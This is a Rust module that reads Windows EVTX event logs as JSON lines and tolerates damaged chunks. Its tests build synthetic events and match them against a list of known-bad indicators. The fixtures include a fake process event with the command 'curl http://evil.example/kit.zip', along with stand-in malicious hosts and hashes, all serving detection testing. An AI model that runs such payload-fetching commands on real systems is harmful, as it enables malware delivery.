//! Event logs of Windows (EVTX): binary XML in chunks of 64 KiB, each event as a line of JSON.
//!
//! Each chunk stands for itself, so what is damaged costs no more than itself.

use std::io::{self, Read};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::Arc;

use evtx::{EvtxChunkData, ParserSettings};

use crate::blocks::LINE_MAX;

/// How such a log begins.
pub(crate) const MAGIC: &[u8] = b"ElfFile\0";
const HEAD_BYTES: usize = 4 << 10;
const CHUNK_BYTES: usize = 64 << 10;
const CHUNK_MAGIC: &[u8] = b"ElfChnk\0";

/// Reads events as lines of JSON. What is damaged is passed over, and told at the end.
pub(crate) struct Events<R> {
    input: R,
    settings: Arc<ParserSettings>,
    is_begun: bool,
    /// Chunks and events that could not be read.
    damaged: u64,
    ready: Vec<u8>,
    given: usize,
    ended: bool,
    /// Why it could not be read further: told once what stood before is given.
    torn: Option<io::Error>,
}

impl<R: Read> Events<R> {
    pub(crate) fn new(input: R) -> Events<R> {
        let settings = Arc::new(ParserSettings::default().indent(false));
        let (ready, torn) = (Vec::new(), None);
        Events { input, settings, is_begun: false, damaged: 0, ready, given: 0, ended: false, torn }
    }

    // Reads so many bytes, or as many as there are.
    fn take(&mut self, bytes: usize) -> Vec<u8> {
        let mut taken = Vec::with_capacity(bytes);
        self.torn = (&mut self.input).take(bytes as u64).read_to_end(&mut taken).err();
        taken
    }

    fn chunk(&mut self, chunk: Vec<u8>) {
        // Room that was set aside and never used.
        if chunk.iter().all(|byte| *byte == 0) {
            return;
        }
        if chunk.len() < CHUNK_BYTES || !chunk.starts_with(CHUNK_MAGIC) {
            self.damaged += 1;
            return;
        }
        let (settings, ready) = (Arc::clone(&self.settings), &mut self.ready);
        let read = catch_unwind(AssertUnwindSafe(|| {
            // The sums of a chunk that is being written do not fit yet, so each event is tried.
            let mut data = EvtxChunkData::new(chunk, false).ok()?;
            let mut chunk = data.parse(settings).ok()?;
            let mut damaged = 0;
            for event in chunk.iter() {
                match event.and_then(evtx::EvtxRecord::into_json_bytes) {
                    Ok(event) if event.data.len() <= LINE_MAX => {
                        ready.extend(event.data.iter().map(|byte| if *byte == b'\n' { b' ' } else { *byte }));
                        ready.push(b'\n');
                    }
                    Ok(_) | Err(_) => damaged += 1,
                }
            }
            Some(damaged)
        }));
        self.damaged += read.ok().flatten().unwrap_or(1);
    }
}

impl<R: Read> Read for Events<R> {
    fn read(&mut self, into: &mut [u8]) -> io::Result<usize> {
        while self.given >= self.ready.len() {
            (self.given, self.ready) = (0, Vec::new());
            if !self.is_begun {
                self.is_begun = true;
                self.take(HEAD_BYTES);
            }
            if let Some(error) = self.torn.take() {
                self.ended = true;
                // Of what is damaged nobody would hear, were only this told.
                if self.damaged == 0 {
                    return Err(error);
                }
            }
            if self.ended {
                return match std::mem::take(&mut self.damaged) {
                    0 => Ok(0),
                    1 => Err(io::Error::other("an event or a chunk of it is damaged, and was passed over")),
                    many => {
                        let why = format!("{many} events or chunks of it are damaged, and were passed over");
                        Err(io::Error::other(why))
                    }
                };
            }
            let chunk = self.take(CHUNK_BYTES);
            self.ended = chunk.len() < CHUNK_BYTES;
            // A chunk that broke off is told by why it did.
            if self.torn.is_none() || chunk.len() == CHUNK_BYTES {
                self.chunk(chunk);
            }
        }
        let length = self.ready.get(self.given..).unwrap_or_default().read(into)?;
        self.given += length;
        Ok(length)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Binary XML without templates, as it stands at a place of a chunk.
    struct Xml {
        bytes: Vec<u8>,
        at: usize,
    }

    impl Xml {
        fn put(&mut self, bytes: &[u8]) {
            self.bytes.extend_from_slice(bytes);
        }

        fn name(&mut self, name: &str) {
            let here = (self.at + self.bytes.len() + 4) as u32;
            self.put(&here.to_le_bytes());
            self.put(&[0; 6]);
            self.put(&(name.len() as u16).to_le_bytes());
            self.put(&wide(name));
            self.put(&[0; 2]);
        }

        fn value(&mut self, text: &str) {
            self.put(&[5, 1]);
            self.put(&(text.len() as u16).to_le_bytes());
            self.put(&wide(text));
        }

        // An element with at most one attribute, and a text or others within.
        fn element(&mut self, name: &str, attribute: Option<(&str, &str)>, within: &dyn Fn(&mut Xml)) {
            self.put(&[if attribute.is_some() { 0x41 } else { 0x01 }]);
            self.put(&[0; 4]);
            self.name(name);
            if let Some((name, value)) = attribute {
                self.put(&[0; 4]);
                self.put(&[6]);
                self.name(name);
                self.value(value);
            }
            self.put(&[2]);
            within(self);
            self.put(&[4]);
        }
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn event(at: usize, id: u64, data: &[(&str, &str)]) -> Vec<u8> {
        let mut xml = Xml { bytes: vec![0x0F, 1, 1, 0], at: at + 24 };
        xml.element("Event", None, &|xml| {
            xml.element("System", None, &|xml| {
                let time = ("SystemTime", "2026-03-05T12:00:00.0000000Z");
                xml.element("TimeCreated", Some(time), &|_| {});
                xml.element("Computer", None, &|xml| xml.value("pc1.corp.example"));
            });
            xml.element("EventData", None, &|xml| {
                for (name, value) in data {
                    xml.element("Data", Some(("Name", name)), &|xml| xml.value(value));
                }
            });
        });
        xml.put(&[0]);
        let length = (xml.bytes.len() + 28) as u32;
        let mut record = vec![0x2A, 0x2A, 0, 0];
        record.extend(length.to_le_bytes());
        record.extend(id.to_le_bytes());
        record.extend(133_000_000_000_000_000u64.to_le_bytes());
        record.extend(xml.bytes);
        record.extend(length.to_le_bytes());
        record
    }

    fn chunk(events: &[&[(&str, &str)]]) -> Vec<u8> {
        let (mut chunk, mut last) = (vec![0; 512], 512);
        for (id, data) in (1..).zip(events) {
            last = chunk.len();
            let event = event(last, id, data);
            chunk.extend(event);
        }
        let (count, free) = (events.len() as u64, chunk.len() as u32);
        let head: Vec<u8> =
            [1, count, 1, count].iter().flat_map(|number: &u64| number.to_le_bytes()).collect();
        let more: Vec<u8> = [128, last as u32, free].iter().flat_map(|number| number.to_le_bytes()).collect();
        let start: Vec<u8> = [CHUNK_MAGIC, &head, &more].concat();
        chunk.splice(..start.len(), start);
        chunk.resize(CHUNK_BYTES, 0);
        chunk
    }

    fn log(chunks: &[Vec<u8>]) -> Vec<u8> {
        let mut head = MAGIC.to_vec();
        head.resize(HEAD_BYTES, 0);
        [head, chunks.concat()].concat()
    }

    fn found(log: Vec<u8>) -> (Vec<(String, String)>, crate::End) {
        const MD5: &str = "9e107d9d372bb6826bd81d3542a419d6";
        let list = format!("203.0.113.7\nevil.example\nhttp://evil.example/kit.zip\n{MD5}\n");
        let known = crate::Known::read(list.as_bytes(), 7).unwrap();
        let bytes: Box<dyn Read + Send> = Box::new(io::Cursor::new(log));
        let input =
            crate::Input { name: String::new(), bytes, format: None, clock: Default::default(), from: None };
        let (mut found, mut ended) = (Vec::new(), None);
        crate::run(&known.now().knowledge, [input].into_iter(), 2, &mut |told| match told {
            crate::Told::Hit(hit) => {
                assert_eq!(hit.host.as_deref(), Some("pc1.corp.example"));
                assert_eq!(hit.time, "2026-03-05T12:00:00Z".parse().ok());
                found.push((hit.fields.join(" "), hit.seen));
            }
            crate::Told::Ended(end) => ended = Some(end.clone()),
            crate::Told::Begun { format, .. } => assert_eq!(format, crate::Format::Evtx),
            crate::Told::Done { .. } => {}
        })
        .unwrap();
        found.sort();
        (found, ended.unwrap())
    }

    const NETWORK: &[(&str, &str)] = &[("DestinationIp", "203.0.113.7"), ("DestinationPort", "443")];
    const NAME: &[(&str, &str)] =
        &[("QueryName", "evil.example"), ("QueryResults", "type: 5 a.example;::ffff:203.0.113.7;")];
    const PROCESS: &[(&str, &str)] = &[
        ("Image", r"C:\evil.example\x.exe"),
        ("CommandLine", "curl http://evil.example/kit.zip"),
        ("Hashes", "SHA1=2fd4e1c67a2d28fced849ee1bb76e7391b93eb12,MD5=9E107D9D372BB6826BD81D3542A419D6"),
    ];

    #[test]
    fn events_are_gone_through_by_their_fields() {
        let (found, end) = found(log(&[chunk(&[NETWORK, NAME]), vec![0; CHUNK_BYTES], chunk(&[PROCESS])]));
        let at = |field: &str| format!("Event.EventData.{field}");
        let expected = [
            (at("CommandLine"), "http://evil.example/kit.zip".to_owned()),
            (at("CommandLine"), "http://evil.example/kit.zip".to_owned()),
            (at("DestinationIp"), "203.0.113.7".to_owned()),
            (at("Hashes"), "9e107d9d372bb6826bd81d3542a419d6".to_owned()),
            (at("QueryName"), "evil.example".to_owned()),
            (at("QueryResults"), "203.0.113.7".to_owned()),
        ];
        assert_eq!(found, expected);
        assert_eq!(end, crate::End::default());
    }

    #[test]
    fn what_stands_before_a_tear_is_given() {
        struct Torn;
        impl Read for Torn {
            fn read(&mut self, _: &mut [u8]) -> io::Result<usize> {
                Err(io::Error::other("torn"))
            }
        }
        let log = log(&[chunk(&[NETWORK, NAME]), chunk(&[PROCESS])]);
        let cut = |length: usize| {
            let mut events = Vec::new();
            let whole = log.get(..length).unwrap().chain(Torn);
            let why = Events::new(whole).read_to_end(&mut events).unwrap_err().to_string();
            (why, events.split(|byte| *byte == b'\n').count() - 1)
        };
        assert_eq!(cut(log.len()), ("torn".to_owned(), 3));
        assert_eq!(cut(log.len() - 9), ("torn".to_owned(), 2));
    }

    #[test]
    fn what_is_damaged_is_told_and_the_rest_is_gone_through() {
        let whole = [chunk(&[NETWORK]), chunk(&[NAME, NETWORK]), chunk(&[NETWORK])];
        let mut foreign = whole.clone();
        foreign[0][..4].copy_from_slice(b"Nope");
        let mut event = whole.clone();
        // The first token behind the fragment's header of the first event.
        event[1][512 + 28] = 0xEE;
        let mut torn = log(&whole);
        torn.truncate(torn.len() - 9);
        // Of five: one of the first chunk, two of the event of a name, one of the last chunk are gone.
        for (log, hits) in [(log(&foreign), 4), (log(&event), 3), (torn, 4)] {
            let (found, end) = found(log);
            assert_eq!(found.len(), hits, "{found:?}");
            assert!(end.error.unwrap().contains("damaged"));
        }
        // Whatever stands in a chunk, reading comes to its end.
        for at in 0..2_000 {
            let mut damaged = whole[1].clone();
            damaged[at] ^= 0x41;
            damaged[at * 31 % 2_000] ^= 0x08;
            let mut events = Vec::new();
            let _told_or_not = Events::new(log(&[damaged]).as_slice()).read_to_end(&mut events);
            assert!(events.len() < 1 << 20);
        }
    }
}
